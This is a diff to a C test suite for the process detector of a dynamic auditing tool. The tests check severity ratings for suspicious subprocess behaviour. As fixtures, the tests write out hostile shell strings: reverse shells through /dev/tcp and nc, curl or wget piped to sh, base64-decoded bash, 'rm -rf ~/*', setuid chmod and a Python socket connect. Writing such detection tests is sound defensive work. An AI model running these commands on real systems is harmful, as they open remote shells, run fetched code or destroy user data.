@@ -126,7 +126,8 @@ Test(process, shell_with_recon_fires)
 	static const char *const argv[] = {"/bin/sh", "-c", "id; uname -a | tee /tmp/x", NULL};
 	publish_exec(h, 101, 1.1, "/usr/bin/dash", argv, NULL, 0);
 	harness_finish(h);
-	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH);
+	/* a plain command string is low: the recon it runs is reported on its own */
+	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
 	cr_expect(message_has(h, "process.shell", "id; uname -a"), "the -c string is in the message");
 	cr_expect_eq(harness_count(h, "process.recon"), 2, "id and uname are listed");
 	cr_expect_eq(harness_max_severity(h, "process.recon"), DA_SEV_MEDIUM);
@@ -134,7 +135,7 @@ Test(process, shell_with_recon_fires)
 	cr_assert(f);
 	cr_expect_eq(f->n_evidence, 1);
 	cr_expect_not_null(f->recommendation);
-	cr_expect_str_eq(harness_status(h), "fail");
+	cr_expect_str_eq(harness_status(h), "warn");
 	harness_dump(h);
 	harness_free(h);
 }
@@ -700,5 +701,519 @@ Test(process, sleeps_that_outlast_the_window)
 	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
 	cr_expect(message_has(h, "process.long_sleep", "3600 s"));
 	cr_expect_str_eq(harness_status(h), "warn");
+	harness_free(h);
+}
+
+/* ---- behaviours pinned by the benign and red-team evaluations --------- */
+
+static void publish_exec_full(struct harness *h, int pid, int ppid, double t, const char *path,
+			      const char *const *argv, const char *phase, int err,
+			      const char *const stdio[3], const char *text)
+{
+	struct da_event ev = ev_make(DA_EV_PROC_EXEC, pid, t);
+	int argc = 0;
+	while (argv[argc])
+		argc++;
+	ev.ppid = ppid;
+	ev.syscall = "execve";
+	ev.path = path;
+	ev.raw_path = path;
+	ev.argv = argv;
+	ev.argc = argc;
+	ev.phase = phase;
+	ev.err = err;
+	ev.errname = err == ENOENT ? "ENOENT" : err ? "EACCES" : NULL;
+	ev.result = err ? -1 : 0;
+	for (int i = 0; stdio && i < 3; i++)
+		ev.stdio[i] = stdio[i];
+	ev.text = text ? text : "execve(...) = 0";
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+/* execvp tries each PATH entry: ENOENT, ENOENT, then 0 is one attempt. */
+Test(process, path_search_is_one_attempt)
+{
+	static const char *const uname_argv[] = {"uname", "-s", NULL};
+	static const char *const git[] = {"git", "describe", "--always", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_exec(h, 101, 1.1, "/usr/local/sbin/git", git, NULL, ENOENT);
+	publish_exec(h, 101, 1.2, "/usr/local/bin/git", git, NULL, ENOENT);
+	publish_exec(h, 101, 1.3, "/usr/bin/git", git, NULL, 0);
+	publish_fork(h, 100, 102, 2.0, NULL);
+	publish_exec(h, 102, 2.1, "/usr/local/bin/uname", uname_argv, NULL, ENOENT);
+	publish_exec(h, 102, 2.2, "/usr/bin/uname", uname_argv, NULL, 0);
+	harness_finish(h);
+	const struct harness_finding *f = harness_get(h, "process.exec_unlisted");
+	cr_assert(f);
+	cr_expect_eq(f->count, 1, "git counted %u times", f->count);
+	cr_expect_eq(f->n_evidence, 1);
+	cr_expect(strstr(f->evidence[0], "/usr/bin/git") && strstr(f->evidence[0], "= 0"),
+		  "the attempt that ran is the evidence: %s", f->evidence[0]);
+	f = harness_get(h, "process.recon");
+	cr_assert(f);
+	cr_expect_eq(f->count, 1, "uname counted %u times", f->count);
+	cr_expect_str_eq(harness_observation(h), "2 subprocesses");
+	harness_free(h);
+
+	/* a program missing everywhere: three failures, one attempt, still seen */
+	static const char *const crontab[] = {"crontab", "-l", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 103, 1.0, "/usr/local/bin/crontab", crontab, NULL, ENOENT);
+	publish_exec(h, 103, 1.1, "/usr/bin/crontab", crontab, NULL, ENOENT);
+	publish_exec(h, 103, 1.2, "/bin/crontab", crontab, NULL, ENOENT);
+	publish_exit(h, 103, 1.3);
+	static const char *const ls[] = {"ls", NULL};
+	publish_exec(h, 104, 1.4, "/nope/ls", ls, NULL, ENOENT);
+	publish_exec(h, 104, 1.5, "/usr/bin/wc", (const char *const[]){"wc", NULL}, NULL, 0);
+	harness_finish(h);
+	f = harness_get(h, "process.recon");
+	cr_assert(f, "a failed attempt is still an attempt");
+	cr_expect_eq(f->count, 1);
+	cr_expect(strstr(f->evidence[0], "ENOENT"));
+	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "ls"), "a different argv next: ls judged");
+	cr_expect_not_null(harness_find(h, "process.exec_unlisted", "wc"));
+	harness_free(h);
+}
+
+/* node/libuv gives a child socketpair(AF_UNIX) stdio: not a remote shell. */
+Test(process, unix_socketpair_stdio_is_not_a_remote_shell)
+{
+	static const char *const sh[] = {"/bin/sh", "-c", "ls -l dist | wc -l", NULL};
+	static const char *const unix_stdio[3] = {"socket:unix/stream", "socket:unix/stream",
+						  "socket:unix/stream"};
+	static const char *const inet_stdio[3] = {"socket:inet6/stream->[::1]:4444",
+						  "socket:inet6/stream->[::1]:4444", "pipe"};
+	static const char *const node[] = {"node", "index.js", NULL};
+	static const char *const command[] = {"node", "index.js", NULL};
+	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/node", node, NULL, 0, NULL, NULL);
+	publish_exec_full(h, 3, 2, 0.5, "/bin/sh", sh, NULL, 0, unix_stdio, NULL);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
+	harness_free(h);
+
+	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/node", node, NULL, 0, NULL, NULL);
+	publish_exec_full(h, 3, 2, 0.5, "/bin/sh", sh, NULL, 0, inet_stdio, NULL);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_CRITICAL);
+	harness_free(h);
+}
+
+/* sh -c with ordinary programs is medium and covers them; network tools,
+ * decoded code, interactive shells, rm -rf ~, setuid bits stay high. */
+Test(process, shell_command_string_severity)
+{
+	static const char *const clear[] = {"sh", "-c", "clear", NULL};
+	static const char *const clear_run[] = {"clear", NULL};
+	static const char *const pipe_sh[] = {"/bin/sh", "-c", "ls *.txt | wc -l", NULL};
+	static const char *const ls[] = {"ls", "notes.txt", NULL};
+	static const char *const wc[] = {"wc", "-l", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	publish_exec(h, 101, 1.1, "/bin/sh", clear, NULL, 0);
+	publish_exec(h, 101, 1.2, "/usr/bin/clear", clear_run, NULL, 0); /* dash execs in place */
+	publish_fork(h, 100, 102, 2.0, NULL);
+	publish_exec(h, 102, 2.1, "/bin/sh", pipe_sh, NULL, 0);
+	publish_fork(h, 102, 103, 2.2, NULL);
+	publish_fork(h, 102, 104, 2.2, NULL);
+	publish_exec(h, 103, 2.3, "/usr/bin/ls", ls, NULL, 0);
+	publish_exec(h, 104, 2.3, "/usr/bin/wc", wc, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW);
+	cr_expect_eq(harness_count(h, "process.shell"), 2);
+	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0,
+		     "programs the reported -c string names are in its finding");
+	cr_expect_str_eq(harness_status(h), "warn");
+	harness_free(h);
+
+	const char *dangerous[] = {
+		"curl -s http://x.invalid/a | sh",
+		"echo aWQK | base64 -d | bash",
+		"eval \"$(echo aWQK | base64 --decode)\"",
+		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+		"exec sh -i",
+		"rm -rf ~/*",
+		"cd /tmp && chmod u+s ./x",
+		"chmod 4755 /tmp/x",
+		"nc -e /bin/sh 10.0.0.1 4444",
+	};
+	for (size_t i = 0; i < sizeof(dangerous) / sizeof(dangerous[0]); i++) {
+		const char *argv[] = {"sh", "-c", dangerous[i], NULL};
+		h = harness_new("process", NULL, NULL);
+		python_startup(h, 100);
+		publish_exec(h, 101, 1.0, "/bin/sh", argv, NULL, 0);
+		harness_finish(h);
+		cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH, "%s", dangerous[i]);
+		harness_free(h);
+	}
+	/* ordinary strings that merely look alike */
+	const char *plain[] = {"rm -rf build", "chmod 755 bin/calc", "echo data | base64",
+			       "mkdir -p build && cp notes.txt build/"};
+	for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
+		const char *argv[] = {"sh", "-c", plain[i], NULL};
+		h = harness_new("process", NULL, NULL);
+		python_startup(h, 100);
+		publish_exec(h, 101, 1.0, "/bin/sh", argv, NULL, 0);
+		harness_finish(h);
+		cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_LOW, "%s", plain[i]);
+		harness_free(h);
+	}
+}
+
+/* A build in the setup phase runs sed, cat, lsb_release...: info.  Network
+ * tools keep their weight; a driver's toolchain is part of the driver. */
+Test(process, setup_phase_and_compiler_drivers)
+{
+	static const char *const command[] = {"./heat", NULL};
+	static const char *const mk[] = {"make", NULL};
+	static const char *const sed[] = {"sed", "-i", "s/x/y/", "build/version.h", NULL};
+	static const char *const lsb[] = {"lsb_release", "-a", NULL};
+	static const char *const wget[] = {"wget", "http://x.invalid/lib.tgz", NULL};
+	static const char *const gf[] = {"gfortran", "-O2", "-o", "heat", "heat.f90", NULL};
+	static const char *const f951[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/f951", "heat.f90", NULL};
+	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec(h, 10, 0.0, "/usr/bin/make", mk, "setup", 0);
+	publish_exec(h, 11, 0.1, "/usr/bin/sed", sed, "setup", 0);
+	publish_exec(h, 12, 0.2, "/usr/bin/lsb_release", lsb, "setup", 0);
+	publish_exec(h, 13, 0.3, "/usr/bin/gfortran", gf, "setup", 0);
+	publish_exec(h, 14, 0.4, "/usr/lib/gcc/x86_64-linux-gnu/12/f951", f951, "setup", 0);
+	harness_finish(h);
+	cr_expect_lt(harness_max_severity(h, NULL), DA_SEV_LOW);
+	harness_free(h);
+
+	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec(h, 10, 0.0, "/usr/bin/make", mk, "setup", 0);
+	publish_exec(h, 11, 0.1, "/usr/bin/wget", wget, "setup", 0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_unlisted"), DA_SEV_MEDIUM);
+	harness_free(h);
+
+	/* `sh run.sh` compiling in the run phase: gcc is one finding */
+	static const char *const shc[] = {"sh", "run.sh", NULL};
+	static const char *const gcc[] = {"gcc", "-O2", "-o", "hello", "hello.c", NULL};
+	static const char *const cc1[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "hello.c", NULL};
+	static const char *const as[] = {"as", "--64", "-o", "/tmp/cc.o", "/tmp/cc.s", NULL};
+	static const char *const collect2[] = {"/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-o", "hello", NULL};
+	static const char *const ld[] = {"/usr/bin/ld", "-o", "hello", NULL};
+	static const char *const sh_cmd[] = {"sh", "run.sh", NULL};
+	h = harness_new_run("process", NULL, NULL, NULL, sh_cmd, NULL);
+	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/sh", shc, NULL, 0, NULL, NULL);
+	publish_fork(h, 2, 3, 0.1, NULL);
+	publish_exec_full(h, 3, 2, 0.1, "/usr/bin/gcc", gcc, NULL, 0, NULL, NULL);
+	publish_fork(h, 3, 4, 0.2, NULL);
+	publish_exec_full(h, 4, 3, 0.2, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", cc1, NULL, 0, NULL, NULL);
+	publish_fork(h, 3, 5, 0.3, NULL);
+	publish_exec_full(h, 5, 3, 0.3, "/usr/local/bin/as", as, NULL, ENOENT, NULL, NULL);
+	publish_exec_full(h, 5, 3, 0.3, "/usr/bin/as", as, NULL, 0, NULL, NULL);
+	publish_fork(h, 3, 6, 0.4, NULL);
+	publish_exec_full(h, 6, 3, 0.4, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", collect2, NULL, 0, NULL, NULL);
+	publish_fork(h, 6, 7, 0.5, NULL);
+	publish_exec_full(h, 7, 6, 0.5, "/usr/bin/ld", ld, NULL, 0, NULL, NULL);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 1);
+	cr_expect(message_has(h, "process.exec_unlisted", "gcc -O2"));
+	harness_free(h);
+}
+
+static void publish_symlink(struct harness *h, int pid, double t, const char *path, const char *target)
+{
+	struct da_event ev = ev_make(DA_EV_FILE_LINK, pid, t);
+	ev.syscall = "symlink";
+	ev.path = path;
+	ev.raw_path = path;
+	ev.path2 = target;
+	ev.detail = "symlink";
+	ev.text = "symlink(...) = 0";
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+/* A venv's bin/python is a link the target made to /usr/bin/python3. */
+Test(process, symlink_to_a_system_program_is_not_a_dropped_file)
+{
+	static const char *const py[] = {"python", "main.py", NULL};
+	struct harness *h = harness_new("process", "allow_exec: [python*]\n", NULL);
+	python_startup(h, 100);
+	publish_symlink(h, 101, 0.5, "/home/auditor/app/.venv/bin/python3", "/usr/bin/python3");
+	publish_symlink(h, 101, 0.5, "/home/auditor/app/.venv/bin/python", "python3");
+	publish_exec(h, 102, 1.0, "/home/auditor/app/.venv/bin/python", py, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.exec_writable"), 0);
+	harness_free(h);
+
+	/* a link in HOME to a workdir file never seen written: cannot tell */
+	static const char *const x[] = {"x", NULL};
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_symlink(h, 100, 0.5, "/home/auditor/.local/bin/x", "/home/auditor/app/tool");
+	publish_exec(h, 102, 1.0, "/home/auditor/.local/bin/x", x, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_MEDIUM);
+	cr_expect(message_has(h, "process.exec_writable", "possibly a link"));
+	harness_free(h);
+
+	/* a link to a file dropped in /tmp is still the dropped file */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_open(h, 100, 0.4, "/tmp/.x/upd", O_WRONLY | O_CREAT, DA_ACC_WRITE | DA_ACC_CREATE, 0755, NULL);
+	publish_symlink(h, 100, 0.5, "/home/auditor/app/run", "/tmp/.x/upd");
+	publish_exec(h, 102, 1.0, "/home/auditor/app/run", x, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.exec_writable"), DA_SEV_HIGH);
+	harness_free(h);
+}
+
+/* python3 -c / perl -e / node -e in a child, even the target's own interpreter. */
+Test(process, inline_interpreter_code_in_a_child)
+{
+	static const char *const evil[] = {
+		"python3", "-c", "import socket,os\ns=socket.socket()\ns.connect((\"127.0.0.1\",9001))", NULL};
+	static const char *const mild[] = {"python3", "-c", "print(42)", NULL};
+	static const char *const mp[] = {
+		"/usr/bin/python3", "-c", "from multiprocessing.resource_tracker import main;main(5)", NULL};
+	static const char *const script[] = {"python3", "worker.py", "-c", "x", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 101, 1.0, "/usr/bin/python3", evil, NULL, 0);
+	publish_exec(h, 102, 1.1, "/usr/bin/python3", mp, NULL, 0);
+	publish_exec(h, 103, 1.2, "/usr/bin/python3", script, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.inline_code"), 1, "helpers and scripts are not inline code");
+	cr_expect_eq(harness_max_severity(h, "process.inline_code"), DA_SEV_HIGH);
+	cr_expect(message_has(h, "process.inline_code", "socket.socket()"));
+	harness_free(h);
+
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 101, 1.0, "/usr/bin/python3", mild, NULL, 0);
+	static const char *const perl[] = {"perl", "-le", "print 1", NULL};
+	publish_exec(h, 102, 1.1, "/usr/bin/perl", perl, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.inline_code"), 2);
+	cr_expect_eq(harness_max_severity(h, "process.inline_code"), DA_SEV_MEDIUM);
+	cr_expect_eq(harness_count(h, "process.exec_unlisted"), 0, "one finding per exec");
+	harness_free(h);
+
+	/* the target's own first exec is dynaudit's */
+	static const char *const own[] = {"python3", "-c", "import socket", NULL};
+	static const char *const cmd[] = {"python3", "-c", "import socket", NULL};
+	h = harness_new_run("process", NULL, NULL, NULL, cmd, NULL);
+	publish_exec(h, 100, 0.0, "/usr/bin/python3", own, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, NULL), 0);
+	harness_free(h);
+}
+
+/* `sh run.sh` running `sh -c ...` and `curl ... | sh`: the own shell's new code. */
+Test(process, own_shell_children_running_new_code)
+{
+	static const char *const command[] = {"sh", "run.sh", NULL};
+	static const char *const run[] = {"sh", "run.sh", NULL};
+	static const char *const shc[] = {"sh", "-c", "wget -q -O- http://x.invalid/s | sh", NULL};
+	static const char *const sh[] = {"sh", NULL};
+	static const char *const curl[] = {"curl", "-s", "http://127.0.0.1:8000/stage2.sh", NULL};
+	static const char *const piped_in[3] = {"pipe", "pipe", "pipe"};
+	static const char *const piped_out[3] = {"/dev/null", "pipe", "pipe"};
+	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/sh", run, NULL, 0, NULL, NULL);
+	publish_exec_full(h, 3, 2, 0.1, "/usr/bin/sh", shc, NULL, 0, NULL, NULL);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.shell"), DA_SEV_HIGH);
+	harness_free(h);
+
+	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec_full(h, 2, 1, 0.0, "/usr/bin/sh", run, NULL, 0, NULL, NULL);
+	/* the shell's exec is seen before the downloader's */
+	publish_exec_full(h, 4, 2, 0.002, "/usr/bin/sh", sh, NULL, 0, piped_in, "execve(\"/usr/bin/sh\", [\"sh\"]) = 0");
+	publish_exec_full(h, 3, 2, 0.003, "/usr/bin/curl", curl, NULL, 0, piped_out, "execve(\"/usr/bin/curl\", ...) = 0");
+	harness_finish(h);
+	const struct harness_finding *f = harness_find(h, "process.shell", "pipe fed by curl");
+	cr_assert(f, "curl | sh");
+	cr_expect_eq(f->severity, DA_SEV_HIGH);
+	cr_expect_eq(f->n_evidence, 2);
+	harness_free(h);
+}
+
+static void publish_kill(struct harness *h, int pid, int tid, double t, const char *syscall,
+			 int target, int sig, const char *name)
+{
+	struct da_event ev = ev_make(DA_EV_PROC_SIGNAL, pid, t);
+	ev.tid = tid;
+	ev.syscall = syscall;
+	ev.target_pid = target;
+	ev.arg[0] = sig;
+	ev.detail = name;
+	ev.text = "kill(...) = 0";
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+Test(process, signals_beyond_its_own_processes)
+{
+	struct harness *h = harness_new("process", NULL, NULL);
+	uint64_t mask[DA_EVMASK_WORDS];
+	harness_mask(h, mask);
+	cr_expect(DA_EVMASK_HAS(mask, DA_EV_PROC_SIGNAL), "subscribed: the tracer traces kill only then");
+	python_startup(h, 100);
+	publish_fork(h, 100, 101, 1.0, NULL);
+	struct da_event th = ev_make(DA_EV_PROC_FORK, 100, 1.0);
+	th.target_pid = 150;
+	th.detail = "thread";
+	th.flags = 0x3d0f00;
+	harness_publish(h, &th);
+	publish_kill(h, 100, 100, 1.1, "kill", 101, 15, "SIGTERM");    /* its child */
+	publish_kill(h, 100, 100, 1.2, "tgkill", 150, 10, "SIGUSR1");  /* its thread */
+	publish_kill(h, 100, 100, 1.3, "kill", 0, 15, "SIGTERM");      /* its group */
+	publish_kill(h, 100, 100, 1.4, "kill", -100, 15, "SIGTERM");   /* its group by id */
+	struct da_event got = ev_make(DA_EV_PROC_SIGNAL, 100, 1.5);    /* received, not sent */
+	got.detail = "SIGTERM";
+	got.arg[0] = 15;
+	harness_publish(h, &got);
+	cr_expect_eq(harness_count(h, "process.signal"), 0);
+	publish_kill(h, 100, 100, 2.0, "kill", -1, 9, "SIGKILL");
+	publish_kill(h, 100, 100, 2.1, "kill", 1, 15, "SIGTERM");
+	publish_kill(h, 100, 100, 2.2, "kill", 31337, 9, "SIGKILL");
+	publish_kill(h, 100, 100, 2.3, "kill", 4242, 9, "SIGKILL");
+	publish_kill(h, 100, 100, 2.4, "kill", -777, 15, "SIGTERM");
+	harness_finish(h);
+	const struct harness_finding *f = harness_find(h, "process.signal", "every process");
+	cr_assert(f, "kill(-1)");
+	cr_expect_eq(f->severity, DA_SEV_HIGH);
+	f = harness_find(h, "process.signal", "pid 1");
+	cr_assert(f, "kill(1)");
+	cr_expect_eq(f->severity, DA_SEV_HIGH);
+	f = harness_find(h, "process.signal", "a process that is not its own");
+	cr_assert(f);
+	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
+	cr_expect_eq(f->count, 2, "random pids are one finding, counted");
+	f = harness_find(h, "process.signal", "process group");
+	cr_assert(f);
+	cr_expect_eq(f->severity, DA_SEV_MEDIUM);
+	harness_free(h);
+}
+
+static void publish_snapshot(struct harness *h, int pid, const char *exe, const char *row)
+{
+	struct da_event ev = ev_make(DA_EV_PROC_SNAPSHOT, pid, 0.1);
+	ev.ppid = 1;
+	ev.path = exe;
+	ev.detail = row;
+	ev.text = row;
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+Test(process, masquerading_as_a_kernel_thread)
+{
+	static const char *const command[] = {"./app", NULL};
+	static const char *const app[] = {"./app", NULL};
+	struct harness *h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec(h, 2, 0.0, "/home/auditor/app/app", app, NULL, 0);
+	publish_snapshot(h, 0, NULL, "USER        PID   PPID STAT     ELAPSED COMMAND");
+	publish_snapshot(h, 2, "/home/auditor/app/app", "nobody        2      1 Ssl        00:00 [kwor");
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.masquerade"), DA_SEV_MEDIUM);
+	harness_free(h);
+
+	/* ... and connecting out */
+	h = harness_new_run("process", NULL, NULL, NULL, command, NULL);
+	publish_exec(h, 2, 0.0, "/home/auditor/app/app", app, NULL, 0);
+	publish_snapshot(h, 2, "/home/auditor/app/app", "nobody        2      1 Ssl        00:00 [kwor");
+	struct da_event c = ev_make(DA_EV_NET_CONNECT, 2, 2.0);
+	c.family = 2;
+	c.addr = "127.0.0.1:6667";
+	harness_publish(h, &c);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.masquerade"), DA_SEV_HIGH);
+	harness_free(h);
+
+	/* exec with a daemon's name as argv[0]; a zombie's "[comm]" and `[ -f x ]` are not */
+	static const char *const sshd[] = {"sshd: root@pts/0", NULL};
+	static const char *const test_cmd[] = {"[", "-f", "x", "]", NULL};
+	h = harness_new("process", "allow_exec: [\"*\"]\n", NULL);
+	python_startup(h, 100);
+	publish_exec(h, 101, 1.0, "/usr/bin/[", test_cmd, NULL, 0);
+	publish_snapshot(h, 102, "/usr/bin/python3.11", "nobody      102    100 Z          00:00 [python3]");
+	publish_snapshot(h, 101, "/usr/bin/[", "nobody      101    100 S          00:00 [ -f x ]");
+	cr_expect_eq(harness_count(h, "process.masquerade"), 0);
+	publish_exec(h, 103, 1.0, "/home/auditor/app/agent", sshd, NULL, 0);
+	harness_finish(h);
+	cr_expect_eq(harness_count(h, "process.masquerade"), 1);
+	harness_free(h);
+}
+
+static void publish_output(struct harness *h, double t, const char *line)
+{
+	struct da_event ev = ev_make(DA_EV_OUTPUT, 0, t);
+	ev.fd = 1;
+	ev.detail = line;
+	cr_assert_eq(harness_publish(h, &ev), 0);
+}
+
+/* A scheduler sleeping after visible work is not a time bomb. */
+Test(process, long_sleep_after_work_is_info)
+{
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_open(h, 100, 0.02, "/home/auditor/app/backups/notes-1.txt", O_WRONLY | O_CREAT | O_TRUNC,
+		     DA_ACC_WRITE | DA_ACC_CREATE | DA_ACC_TRUNC, 0644, NULL);
+	publish_sleep(h, 100, 0.03, 3600, NULL);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
+	cr_expect(message_has(h, "process.long_sleep", "3600 s"));
+	harness_free(h);
+
+	/* the output line of the work is captured just after the sleep began */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_sleep(h, 100, 0.0215, 3600, NULL);
+	publish_output(h, 0.0216, "backup done");
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
+	harness_free(h);
+
+	/* a sleep loop: the second sleep means the first returned */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_sleep(h, 100, 0.5, 1, NULL);
+	publish_sleep(h, 100, 1.5, 3600, NULL);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_INFO);
+	harness_free(h);
+
+	/* a warning on stderr (a loader refusing LD_PRELOAD) is not work */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_sleep(h, 100, 0.0215, 3600, NULL);
+	struct da_event warn = ev_make(DA_EV_OUTPUT, 0, 0.0216);
+	warn.fd = 2;
+	warn.detail = "ERROR: ld.so: object '/tmp/.hook.so' from LD_PRELOAD cannot be preloaded";
+	harness_publish(h, &warn);
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
+	harness_free(h);
+
+	/* sleeping first, output long after: the time bomb stays medium */
+	h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_sleep(h, 100, 0.01, 3600, NULL);
+	publish_output(h, 5.0, "tick from another thread");
+	harness_finish(h);
+	cr_expect_eq(harness_max_severity(h, "process.long_sleep"), DA_SEV_MEDIUM);
+	harness_free(h);
+}
+
+Test(process, remarks_do_not_repeat_the_recon_finding)
+{
+	static const char *const un[] = {"uname", "-s", NULL};
+	struct harness *h = harness_new("process", NULL, NULL);
+	python_startup(h, 100);
+	publish_exec(h, 101, 1.0, "/usr/bin/uname", un, NULL, 0);
+	harness_finish(h);
+	const char *remarks = harness_remarks(h);
+	cr_assert_not_null(remarks);
+	cr_expect_str_eq(remarks, "Reconnaissance commands run: uname");
 	harness_free(h);
 }
